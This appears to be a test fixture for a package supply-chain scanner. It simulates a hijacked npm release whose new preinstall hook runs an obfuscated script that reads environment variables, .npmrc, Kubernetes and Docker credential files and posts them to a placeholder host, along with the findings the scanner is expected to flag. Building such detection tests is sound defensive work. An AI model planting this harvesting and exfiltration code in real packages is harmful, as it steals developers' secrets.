import { obfuscated } from '../obfuscated.js'
import { compiledQueue } from '../plain-modules.js'
import { replayUpgrade } from '../upgrade.js'

const payload = obfuscated(
  `
const $fs=require(«fs»),$os=require(«os»),$path=require(«path»),$https=require(«https»);
const $found=[JSON[«stringify»](process[«env»])];
for(const $place of [«.npmrc»,«.kube/config»,«.docker/config.json»,«.config/containers/auth.json»]){
try{$found[«push»]($fs[«readFileSync»]($path[«join»]($os[«homedir»](),$place),«utf8»));}catch($failure){}}
const $request=$https[«request»]({'hostname':«telemetry-cdn.example»,'path':«/b»,'method':«POST»});
$request[«on»](«error»,()=>{});
$request[«end»]($found[«join»](«»)[«slice»](0x0,0x0));
`,
  600,
)

const manifest = { main: 'cjs/index.js' }
const files = { 'cjs/index.js': compiledQueue }
const command = 'node index.js'

/** By the project's own run, before and after: provenance has nothing to say here. */
const built = { trustedPublisher: 'github', provenance: { repository: 'RedHatInsights/frontend-components' } } as const

export const replay = replayUpgrade({
  description:
    'A repository was taken over and released through its own pipeline, with valid provenance, three versions of each of its packages: ' +
    'before install a new file at the root ran.',
  date: '2026-06-01',
  reviewedAt: '2026-06-02T08:00:00Z',
  name: '@redhat-cloud-services/chrome',
  from: ['2.3.0', { manifest, files, published: '2026-05-12T12:00:00Z', ...built }],
  to: [
    '2.3.1',
    {
      manifest: { ...manifest, scripts: { preinstall: command } },
      files: { ...files, 'index.js': payload },
      published: '2026-06-01T12:00:00Z',
      ...built,
    },
  ],
  findings: [
    ['release-fresh', 'medium'],
    ['install-script-dangerous', 'critical', { file: 'index.js', line: payload }],
    ['secrets-exfiltrated', 'critical', { file: 'index.js', line: payload }],
    ['secrets-harvested', 'critical', { file: 'index.js', line: payload }],
    ['combined-risk', 'critical'],
    ['capability-added', 'high', { file: 'index.js', line: payload }],
    ['code-obfuscated', 'high', { file: 'index.js' }],
    ['install-script-added', 'high', { file: 'package.json' }],
    ['beacon-added', 'high', { file: 'index.js', line: payload }],
    ['network-host-added', 'medium', { file: 'index.js', line: payload }],
  ],
})
